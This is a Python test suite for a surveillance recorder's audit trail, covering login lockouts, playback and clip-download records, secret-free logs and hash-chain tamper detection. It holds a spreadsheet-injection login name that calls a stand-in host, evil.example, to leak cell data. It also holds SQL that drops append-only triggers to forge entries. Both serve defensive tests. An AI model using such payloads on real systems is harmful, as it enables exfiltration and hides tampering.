"""The audit trail on a real recorder and a real SQLite index: who logged in, failed, was
locked out, watched live and played back which camera and period, made and downloaded clips
and why, changed cameras and users, and was refused; filters, CSV, and verify finding an entry
changed, removed or put in, both through the API and the command line."""

from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys
import threading
from datetime import UTC, datetime, timedelta

import pytest
import requests

from recorder.audit.trail import AuditTrail
from recorder.index.db import database_url, open_index
from recorder.users.brake import LoginBrake
from tests.harness import PASSWORD, add_user, api, cli, cli_json, code, login, new_camera, wait_for

DAY = datetime(2026, 11, 30, tzinfo=UTC)


def entries(client, **filters) -> list[dict]:
    r = client.get("/api/audit", params=filters)
    assert r.status_code == 200, r.text
    return r.json()


def actions(client, **filters) -> list[str]:
    return [e["action"] for e in reversed(entries(client, **filters))]  # oldest first


def test_logins_failures_and_lockout_are_on_record_and_never_the_password(client, recorder):
    add_user(client, "joao", "operator")
    recorder.accounts.brake = LoginBrake(free=2, lock_after=3, lock_seconds=600)
    c = api(recorder, "10.0.0.7")
    for _ in range(2):
        assert code(c.post("/api/login", json={"username": "joao", "password": "wrong password"})) == "login_failed"
    third = wait_for(lambda: (r := c.post("/api/login", json={"username": "joao", "password": "wrong again"}))
                     .status_code != 429 and r, 10, 0.2, "the spacing to pass")
    assert code(third) == "login_locked"
    for _ in range(5):  # knocking at a locked door: one entry a minute, not one per knock
        assert code(c.post("/api/login", json={"username": "joao", "password": PASSWORD})) == "login_locked"
    assert code(c.post("/api/login", json={"username": "nobody", "password": "guess"})) == "login_failed"

    joao = entries(client, user="joao")
    # the right password tried too soon after the wrong ones, if the test was that quick, once
    said = [(e["action"], e["detail"]["refused"]) for e in reversed(joao) if e["detail"]["refused"] != "login_too_soon"]
    assert said == [("login_failed", "login_failed")] * 2 + [("login_locked", "login_locked")]
    assert len(joao) - len(said) <= 1
    assert all(e["address"] == "10.0.0.7" and e["role"] is None for e in joao)
    assert entries(client, user="nobody")[0]["action"] == "login_failed"  # a name that is no account, as typed
    add_user(client, "ana", "supervisor")
    ana = login(recorder, "ana")
    assert ana.post("/api/logout").json() == {"ended": 1}
    assert actions(client, user="ana") == ["login", "logout"]
    everything = client.get("/api/audit.csv").text
    for secret in (PASSWORD, "wrong password", "wrong again", "guess"):
        assert secret not in everything


def test_viewing_playing_back_and_refusals_are_on_record(client, recorder):
    gate, office = new_camera(client, name="Gate"), new_camera(client, name="Office")
    add_user(client, "otto", "operator", cameras=[gate["id"]])
    add_user(client, "vera", "viewer")
    otto, vera = login(recorder, "otto"), login(recorder, "vera")
    period = {"camera_id": gate["id"], "start": DAY.isoformat(), "end": (DAY + timedelta(hours=1)).isoformat()}
    for _ in range(3):  # a timeline asking for the same hour again is one viewing
        assert otto.get("/api/recordings", params=period).status_code == 200
    later = period | {"start": (DAY + timedelta(hours=5)).isoformat(), "end": (DAY + timedelta(hours=6)).isoformat()}
    assert otto.get("/api/recordings", params=later).status_code == 200
    played = entries(client, user="otto", action="playback")
    assert [(e["camera_id"], e["start"][:19], e["end"][:19]) for e in reversed(played)] == [
        (gate["id"], "2026-11-30T00:00:00", "2026-11-30T01:00:00"),
        (gate["id"], "2026-11-30T05:00:00", "2026-11-30T06:00:00")]
    assert played[0]["role"] == "operator" and played[0]["address"] == "127.0.0.1"

    assert code(otto.get("/api/recordings", params={"camera_id": office["id"]})) == "camera_not_allowed"
    assert code(otto.delete("/api/clips/1")) == "permission_missing"
    assert code(vera.get("/api/recordings", params=period)) == "permission_missing"
    assert code(vera.get("/api/audit")) == "permission_missing"  # the trail is for supervisors
    denied = {(e["user"], e["detail"]["refused"], e["camera_id"], e["detail"].get("permission"))
              for e in entries(client, action="permission_denied")}
    assert denied == {("otto", "camera_not_allowed", office["id"], None), ("otto", "permission_missing", None, "delete"),
                      ("vera", "permission_missing", None, "playback"), ("vera", "permission_missing", None, "audit")}
    assert entries(client, camera_id=office["id"], user="otto")[0]["action"] == "permission_denied"


def test_changes_to_cameras_and_users_are_on_record_without_secrets(client, recorder):
    cam = new_camera(client, url="rtsp://admin:cam-s3cret@10.0.0.9/stream", name="Gate")
    assert client.patch(f"/api/cameras/{cam['id']}", json={"name": "Front gate", "retention_days": 5}).status_code == 200
    assert client.post(f"/api/cameras/{cam['id']}/start").status_code == 200
    assert client.delete(f"/api/cameras/{cam['id']}").status_code == 200
    add_user(client, "otto", "operator")
    assert client.patch("/api/users/otto", json={"role": "viewer", "password": "a new one, long"}).status_code == 200
    assert client.post("/api/users/otto/logout").status_code == 200
    assert client.delete("/api/users/otto").status_code == 200
    trail = list(reversed(entries(client, user="service")))
    assert [e["action"] for e in trail] == ["camera_added", "camera_changed", "camera_changed", "camera_removed",
                                            "user_added", "user_changed", "sessions_ended", "user_removed"]
    assert trail[1]["detail"] == {"changed": ["name", "retention_days"], "name": "Front gate", "retention_days": 5}
    assert trail[5]["detail"] == {"name": "otto", "role": "viewer", "password_changed": True}
    text = client.get("/api/audit.csv").text
    assert "cam-s3cret" not in text and "a new one, long" not in text


def test_the_csv_is_safe_to_open_in_a_spreadsheet_and_its_export_is_on_record(client, recorder):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    api(recorder).post("/api/login", json={"username": hostile, "password": "whatever it is"})
    r = client.get("/api/audit.csv", params={"action": "login_failed"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 1 and rows[0]["user"] == "'" + hostile  # text, not a formula
    assert entries(client, action="audit_exported")[0]["detail"]["entries"] == 1


def test_filters_and_paging(client, recorder):
    for i in range(30):
        recorder.audit.record(f"user{i % 3}", "operator", "playback", camera_id=i % 2 + 1)
    page = entries(client, limit=10)
    assert len(page) == 10 and [e["id"] for e in page] == list(range(30, 20, -1))
    older = entries(client, limit=10, before_id=page[-1]["id"])
    assert [e["id"] for e in older] == list(range(20, 10, -1))
    mine = entries(client, user="user1", camera_id=2)
    assert mine and all(e["user"] == "user1" and e["camera_id"] == 2 for e in mine)
    assert entries(client, start=(datetime.now(UTC) + timedelta(hours=1)).isoformat()) == []
    assert code(client.get("/api/audit", params={"action": "dance"})) == "invalid_request"


# -- the chain -----------------------------------------------------------------------------------

def _trail_of(tmp_path, n: int = 12):
    db = tmp_path / "vms.db"
    trail = AuditTrail(open_index(database_url(db)))
    for i in range(n):
        trail.record("otto", "operator", "playback", camera_id=1, reason=f"case {i}")
    return db, trail


def _tampered(tmp_path, db, name: str, *statements: str) -> AuditTrail:
    copy = tmp_path / f"{name}.db"
    with sqlite3.connect(db) as source, sqlite3.connect(copy) as target:
        source.backup(target)  # with what is still in the -wal file
    with sqlite3.connect(copy) as conn:
        conn.execute("DROP TRIGGER audit_log_no_update")
        conn.execute("DROP TRIGGER audit_log_no_delete")
        for statement in statements:
            conn.execute(statement)
    return AuditTrail(open_index(database_url(copy)))


def test_the_index_refuses_to_change_or_remove_an_entry(tmp_path):
    db, trail = _trail_of(tmp_path)
    with sqlite3.connect(db) as conn:
        for statement in ("UPDATE audit_log SET reason = 'nothing to see' WHERE id = 3", "DELETE FROM audit_log WHERE id = 3"):
            with pytest.raises(sqlite3.DatabaseError, match="append-only"):
                conn.execute(statement)
    assert trail.verify() == {"ok": True, "entries": 12}


def test_verify_names_the_entry_changed_removed_or_put_in(tmp_path):
    db, _ = _trail_of(tmp_path)
    changed = _tampered(tmp_path, db, "changed", "UPDATE audit_log SET reason = 'nothing to see' WHERE id = 5")
    assert changed.verify() == {"ok": False, "entries": 4, "first_broken_id": 5,
                                "problem": "entry 5 was changed after it was written"}
    removed = _tampered(tmp_path, db, "removed", "DELETE FROM audit_log WHERE id IN (7, 8)")
    result = removed.verify()
    assert result["first_broken_id"] == 9 and result["problem"] == "entries 7 to 8 are missing"
    first = _tampered(tmp_path, db, "first", "DELETE FROM audit_log WHERE id = 1")
    assert first.verify()["problem"] == "entry 1 is missing"
    # an entry slipped in with a hash of its own making, renumbering those after it
    put_in = _tampered(tmp_path, db, "put_in", "UPDATE audit_log SET id = id + 100 WHERE id > 6",
                       "UPDATE audit_log SET id = id - 99 WHERE id > 100",
                       "INSERT INTO audit_log (id, at, user, action, detail, prev_hash, hash) VALUES "
                       "(7, '2026-11-30T00:00:00.000000+00:00', 'otto', 'login', '{}', 'forged', 'forged')")
    result = put_in.verify()
    assert result["first_broken_id"] == 7 and "does not follow entry 6" in result["problem"]
    # the chain's own table rewritten whole, hashes recomputed, is what verify cannot see:
    # that is for a copy kept elsewhere; here the command line says which entry broke
    data = tmp_path / "data"
    data.mkdir()
    with sqlite3.connect(tmp_path / "changed.db") as source, sqlite3.connect(data / "vms.db") as target:
        source.backup(target)
    out = cli(data, "audit", "verify", check=False)
    assert out.returncode == 1 and "entry 5 was changed" in out.stdout


def test_two_writers_at_once_keep_one_chain(tmp_path):
    """The service and the command line write to the same index: neither breaks the chain."""
    url = database_url(tmp_path / "vms.db")
    trails = [AuditTrail(open_index(url)), AuditTrail(open_index(url))]  # two locks, as two processes

    def write(trail: AuditTrail, who: str) -> None:
        for i in range(150):
            assert trail.record(who, "admin", "camera_changed", detail={"i": i}) is not None

    threads = [threading.Thread(target=write, args=(t, f"writer{n}")) for n, t in enumerate(trails)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert trails[0].verify() == {"ok": True, "entries": 300}
    assert trails[0].failures == trails[1].failures == 0


# -- a real recorder, a real camera ---------------------------------------------------------------

def test_live_playback_and_clips_of_a_restricted_operator_are_on_record(tmp_path, camera_factory, recorder_factory):
    cam = camera_factory(fps=10, gop_seconds=1)
    data = tmp_path / "data"
    cli(data, "camera", "add", "--name", "Gate", "--url", cam.url, "--motion", "off")
    cli(data, "camera", "add", "--name", "Office", "--url", "rtsp://127.0.0.1:9/none", "--disabled")
    cli(data, "user", "add", "otto", "--role", "operator", "--cameras", "1", "--password-stdin", input=PASSWORD + "\n")
    rec = recorder_factory(data).start()
    wait_for(lambda: len(rec.segments(1)) >= 2, 60, 0.5, "two closed segments")
    r = requests.post(f"{rec.base}/api/login", json={"username": "otto", "password": PASSWORD}, timeout=15)
    assert r.status_code == 200, r.text
    token = r.json()["token"]
    otto = {"Authorization": f"Bearer {token}"}

    with requests.get(f"{rec.base}/api/cameras/1/live?token={token}", stream=True, timeout=15) as viewer:
        assert next(viewer.iter_content(4096))
    ended = wait_for(lambda: [e for e in rec.client.audit(user="otto", action="live_stopped")], 15, what="live_stopped")
    assert ended[0].camera_id == 1 and ended[0].detail["stream"] == "main"

    segs = rec.segments(1)
    start, end = segs[0]["start"], segs[-1]["end"]
    assert rec.api("GET", "/api/recordings", params={"camera_id": 1, "start": start, "end": end}, headers=otto).ok
    clip = rec.api("POST", "/api/clips", headers=otto, json={
        "camera_id": 1, "start": start, "end": end, "name": "gate", "reason": "B.O. 1234/2026"}).json()
    ready = rec.api("GET", f"/api/clips/{clip['id']}", params={"wait": 60}, headers=otto, timeout=70).json()
    assert ready["state"] == "ready", ready
    unexplained = rec.api("GET", f"/api/clips/{clip['id']}/file", headers=otto)
    assert unexplained.status_code == 400 and unexplained.json()["code"] == "reason_missing"
    got = rec.api("GET", f"/api/clips/{clip['id']}/file", params={"reason": "court order 55"}, headers=otto)
    assert got.status_code == 200 and got.content[4:8] == b"ftyp"
    refused = rec.api("GET", "/api/recordings", params={"camera_id": 2}, headers=otto)
    assert refused.status_code == 403

    trail = [e for e in reversed(rec.client.audit(user="otto"))]
    assert [e.action for e in trail] == ["login", "live_started", "live_stopped", "playback", "clip_created",
                                         "clip_downloaded", "permission_denied"]
    assert all(e.address == "127.0.0.1" and e.role == "operator" for e in trail)
    playback = trail[3]
    assert (playback.camera_id, playback.start[:19], playback.end[:19]) == (1, start[:19], end[:19])
    assert trail[4].reason == "B.O. 1234/2026" and trail[4].detail["clip"] == clip["id"]
    assert trail[5].reason == "court order 55" and trail[5].detail["clip"] == clip["id"]

    # the command line on the recorder's machine: the same trail, a change of its own, verify
    listed = cli_json(data, "audit", "--user", "otto")
    assert [e["action"] for e in listed][:2] == ["permission_denied", "clip_downloaded"]
    cli(data, "user", "change", "otto", "--cameras", "all")
    mine = cli_json(data, "audit", "--action", "user_changed")[0]
    assert mine["user"].endswith("(command line)") and mine["detail"]["cameras"] is None
    text = cli(data, "audit", "--camera", "1").stdout
    assert "clip_downloaded" in text and "court order 55" in text
    assert cli(data, "audit", "verify").stdout.startswith("the audit trail holds")
    assert rec.client.audit_verify().ok
    assert [e.user for e in rec.client.audit(action="recorder_started")] == ["service"]

    # a player showing the clip views it: no reason, on record as the playback of its period
    seen = rec.api("GET", f"/api/clips/{clip['id']}/file", params={"view": "true"}, headers=otto)
    assert seen.status_code == 200 and seen.content[4:8] == b"ftyp"
    viewed = rec.client.audit(user="otto", action="playback")[0]
    assert viewed.detail["clip"] == clip["id"] and viewed.reason is None
    assert (viewed.start[:19], viewed.end[:19]) == (ready["start"][:19], ready["end"][:19])
    # a player streaming a segment: the listing was the viewing; a copy of it says why, per file
    before = len(rec.client.audit(user="otto"))
    assert rec.api("GET", f"/api/recordings/{segs[0]['id']}/file", headers=otto).status_code == 200
    assert len(rec.client.audit(user="otto")) == before
    blank = rec.api("GET", f"/api/recordings/{segs[0]['id']}/file", params={"reason": " "}, headers=otto)
    assert blank.status_code == 400 and blank.json()["code"] == "reason_missing"
    copied = rec.api("GET", f"/api/recordings/{segs[0]['id']}/file", params={"reason": "LGPD request 9"}, headers=otto)
    assert copied.status_code == 200 and copied.content[4:8] == b"ftyp"
    entry = rec.client.audit(user="otto", action="recording_downloaded")[0]
    assert (entry.camera_id, entry.reason, entry.detail["segment"]) == (1, "LGPD request 9", segs[0]["id"])
    out = subprocess.run([sys.executable, "-m", "recorder.cli", "--data-dir", str(data), "audit", "--csv"],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0 and out.stdout.startswith("id,at,user,role,action") and PASSWORD not in out.stdout
    assert rec.stop() == 0
    assert cli_json(data, "audit", "--action", "recorder_stopped")[0]["detail"] == {"clean": True}
